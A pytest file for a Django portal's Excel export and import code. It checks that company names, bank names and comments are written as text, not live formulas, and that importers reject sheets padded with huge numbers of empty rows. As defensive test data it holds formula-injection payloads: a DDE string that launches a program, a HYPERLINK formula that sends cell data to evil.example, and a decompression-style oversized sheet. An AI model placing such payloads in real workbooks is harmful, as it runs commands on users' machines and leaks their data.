"""Every workbook the portal writes keeps user text as text (never a live formula), and
amounts as numbers; one writer (``portal.core.excel``) for all of them."""

from __future__ import annotations

import io
import re
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.utils.cell import get_column_letter

from applications.models import ApplicationEvent
from dashboards.projection import summary_rebuild
from finance.services import payables_create_for_application, payment_batch_create
from policies.models import Clause
from portal.core import excel
from portal.core.errors import DomainError
from proactive import exports
from proactive.models import MatchRun, OutreachCandidate
from tests.factories.enterprises import EnterpriseFactory
from tests.factories.finance import determined_award

ROOT = Path(__file__).resolve().parents[2]
EVIL = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
DANGEROUS = [EVIL, LINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "#N/A"]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_text_cells(content: bytes, *texts: str) -> None:
    """Each text is in the workbook, and only as a text cell (openpyxl reads a formula as
    data type "f" with the same value)."""
    found = cells(content)
    for text in texts:
        # XML keeps a carriage return as a line feed
        matching = [c for c in found if c.value in (text, text.replace("\r", "\n"))]
        assert matching, f"{text!r} not in the workbook"
        assert all(c.data_type == "s" for c in matching), [
            (c.coordinate, c.data_type) for c in matching
        ]


def test_the_writer_keeps_every_dangerous_text_as_text_and_numbers_as_numbers():
    content = excel.workbook_bytes(
        "表",
        ["文本", "金额（元）"],
        [[text, Decimal("1234.50")] for text in DANGEROUS],
        formats={1: excel.YUAN},
    )
    assert_text_cells(content, *DANGEROUS)
    found = cells(content)
    prefixed = {c.value.replace("\n", "\r") for c in found if c.quotePrefix}
    assert prefixed == set(DANGEROUS) - {"#N/A"}  # Excel shows them as typed, edits stay text
    amounts = [c for c in found if c.column == 2 and c.row > 1]
    assert {(c.data_type, c.value, c.number_format) for c in amounts} == {("n", 1234.5, excel.YUAN)}


def test_control_characters_are_dropped_not_a_failed_export():
    content = excel.workbook_bytes("表", ["名称"], [["甲\x01乙\x0b丙"]])
    assert [c.value for c in cells(content)] == ["名称", "甲乙丙"]


def test_no_other_module_writes_workbooks_itself():
    """One writer: ``Workbook(`` appears only in portal/core/excel.py and the templates that
    write through it (the indicator and department-data templates have drop-downs)."""
    skip = {"tests", "bench", ".venv", "node_modules", "var"}
    found = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not skip & set(path.relative_to(ROOT).parts)
        and "Workbook(" in path.read_text(encoding="utf-8")
    ]
    assert set(found) <= {"portal/core/excel.py", "enterprises/excel.py", "proactive/sources.py"}
    for template in ("enterprises/excel.py", "proactive/sources.py"):
        source = (ROOT / template).read_text(encoding="utf-8")
        assert "excel.save(" in source and ".save(buffer)" not in source


# --- each export, through its URL ------------------------------------------------------


@pytest.fixture
def evil_award(library):
    enterprise = EnterpriseFactory(district_code="jinshui", name=EVIL, bank_name=EVIL)
    award = determined_award(enterprise=enterprise, amount_fen=12_345_678)
    payables_create_for_application(application=award)
    return award


def test_bank_list_keeps_a_formula_bank_name_as_text(client, city_finance, evil_award):
    share = evil_award.payables.get().shares.get(payer_level="city")
    batch = payment_batch_create(actor=city_finance, share_ids=[share.pk])
    client.force_login(city_finance)
    response = client.get(reverse("finance:batch_export", args=[batch.pk]))
    assert response.status_code == 200
    assert_text_cells(response.content, EVIL)
    amount = [c for c in cells(response.content) if c.row == 2][5]
    assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("61728.39")


def test_review_queue_export_keeps_a_formula_company_name_as_text(
    client, district_reviewer, library
):
    from applications.workflow import Status
    from tests.factories.applications import DISTRICT_CLAUSE, ApplicationFactory, open_window

    clause = open_window(DISTRICT_CLAUSE)
    enterprise = EnterpriseFactory(district_code="jinshui", name=EVIL)
    ApplicationFactory(enterprise=enterprise, clause=clause, status=Status.DISTRICT_REVIEW)
    client.force_login(district_reviewer)
    response = client.get(reverse("reviews:queue_export"))
    assert_text_cells(response.content, EVIL)


def test_dashboard_export_keeps_a_formula_company_name_as_text(client, leader, evil_award):
    summary_rebuild()
    client.force_login(leader)
    response = client.get(reverse("dashboards:cases_export"))
    assert_text_cells(response.content, EVIL)
    money = [c for c in cells(response.content) if c.row == 2 and c.number_format == excel.YUAN]
    assert money and all(c.data_type == "n" for c in money)


def test_audit_export_keeps_a_formula_reason_and_name_as_text(client, sys_admin, evil_award):
    ApplicationEvent.objects.create(application=evil_award, action="withdraw", comment=LINK)
    client.force_login(sys_admin)
    response = client.get(reverse("reviews:audit") + "?format=xlsx")
    assert response.status_code == 200
    assert_text_cells(response.content, LINK, EVIL)


def test_outreach_sheet_keeps_imported_names_as_text(library, policy_admin):
    run = MatchRun.objects.create(period="2025", created_by=policy_admin)
    clause = Clause.objects.get(code="zzw-2022-155/2")
    OutreachCandidate.objects.create(
        run=run, credit_code="-1+1", name=EVIL, clause=clause, amount_fen=100_00, facts={}
    )
    content = exports.run_workbook(run)
    assert_text_cells(content, EVIL, "-1+1")
    [amount] = [c for c in cells(content) if c.value == 100]
    assert amount.data_type == "n"


# --- reading: every row counts, empty ones too ------------------------------------------


def xlsx_with_rows(header: list[str], rows: str, sheet: str = "Sheet") -> bytes:
    """An .xlsx whose first sheet holds ``header`` in row 1 and then the raw ``<row>`` XML
    ``rows`` (empty rows, gaps in the numbering: what Excel or an attacker may write)."""
    book = Workbook()
    book.active.title = sheet
    book.active.append(header)
    source = io.BytesIO()
    book.save(source)
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(
                    b"</row></sheetData>", b"</row>" + rows.encode() + b"</sheetData>"
                )
                data = re.sub(rb'<dimension ref="[^"]*"/>', b"", data)
            new.writestr(item, data)
    return out.getvalue()


def empty_rows(first: int, count: int) -> str:
    return "".join(f'<row r="{n}"/>' for n in range(first, first + count))


def data_row(number: int, *values: str) -> str:
    cells = "".join(
        f'<c r="{get_column_letter(i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values, start=1)
    )
    return f'<row r="{number}">{cells}</row>'


INDICATOR_HEADER = ["指标", "期间", "数值"]


def test_the_reader_counts_empty_rows_and_stops_at_the_limit():
    content = xlsx_with_rows(INDICATOR_HEADER, empty_rows(2, 30) + data_row(32, "营业收入"))
    read = list(excel.iter_rows(content, max_rows=40, max_cols=3))
    assert [n for n, _ in read] == list(range(1, 33)) and read[-1][1] == ("营业收入", None, None)
    with pytest.raises(DomainError, match="空行也计算在内"):
        list(excel.iter_rows(content, max_rows=30, max_cols=3))


def test_the_reader_gives_each_row_the_columns_asked_for_not_the_sheets():
    content = xlsx_with_rows(INDICATOR_HEADER, data_row(2, "a") + '<row r="3"><c r="XFD3"/></row>')
    widths = {len(values) for _, values in excel.iter_rows(content, max_rows=10, max_cols=3)}
    assert widths == {3}


def test_indicator_import_refuses_800k_empty_rows_at_once(db):
    """1.3 MB that unpacks to 810,000 empty rows: refused after MAX_ROWS rows, not read to
    its end (it held a web worker for 21 s)."""
    from enterprises import excel as indicator_excel

    rows = empty_rows(2, 810_000) + data_row(810_002, "营业收入", "2023", "1")
    content = xlsx_with_rows(INDICATOR_HEADER, rows, sheet="指标")
    assert len(content) < 2 * 1024 * 1024
    started = time.monotonic()
    with pytest.raises(DomainError, match="空行也计算在内"):
        indicator_excel.read_indicator_rows(SimpleUploadedFile("指标.xlsx", content))
    assert time.monotonic() - started < 5


def test_indicator_import_refuses_a_gap_of_a_million_rows(db):
    from enterprises import excel as indicator_excel

    content = xlsx_with_rows(INDICATOR_HEADER, data_row(1_000_000, "营业收入", "2023", "1"))
    with pytest.raises(DomainError, match="空行也计算在内"):
        indicator_excel.read_indicator_rows(SimpleUploadedFile("指标.xlsx", content))


def test_bank_return_counts_empty_rows(db):
    from finance import excel as finance_excel

    header = list(finance_excel.RETURN_HEADERS)
    rows = empty_rows(2, finance_excel.MAX_ROWS) + data_row(5002, "6217", "1.00", "V", "", "成功")
    with pytest.raises(DomainError, match="空行也计算在内"):
        finance_excel.read_bank_return(
            SimpleUploadedFile("回单.xlsx", xlsx_with_rows(header, rows))
        )


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_department_import_counts_empty_rows(monkeypatch, kind):
    from proactive import sources

    monkeypatch.setattr(sources, "MAX_ROWS", 50)
    spec = sources.SOURCES["power"]
    row = ["91410100MA0000000X", "郑州某某有限公司", "2023-01", "1300000"]
    if kind == "xlsx":
        content = xlsx_with_rows(list(spec.headers), empty_rows(2, 60) + data_row(62, *row))
    else:
        lines = [",".join(spec.headers), *([",,,"] * 60), ",".join(row)]
        content = "\n".join(lines).encode()
    with pytest.raises(DomainError, match="空行也计算在内"):
        sources.parse_file(spec, content, f"用电.{kind}")
